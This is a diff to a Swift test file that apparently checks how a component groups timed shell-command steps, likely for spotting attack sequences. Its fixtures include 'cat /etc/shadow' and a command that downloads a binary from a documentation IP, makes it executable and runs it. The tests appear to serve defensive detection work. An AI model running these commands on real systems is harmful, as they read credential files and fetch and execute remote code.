@@ -462,6 +462,8 @@ import Testing
         let first = step("cat /etc/shadow", .secret, at: 0)
         let download = "curl -s -o /var/tmp/x http://203.0.113.5/x; chmod +x /var/tmp/x; /var/tmp/x"
         #expect(try groups(first + step(download, .secret, at: 490)) == [1, 1, 1, 1, 1, 1])
+        // Nearly a day later it is another story at any pace.
+        #expect(try groups(first + step(download, .secret, at: 86_000)) == [1, 1, 1, 2, 2, 2])
         // Steps that came every few seconds do say so.
         let quick = (1...8).flatMap { step("cat /etc/f\(Self.letter($0))", .secret, at: Double($0) * 4) }
         #expect(Set(try groups(first + quick + step(download, .secret, at: 9000))).count == 2)
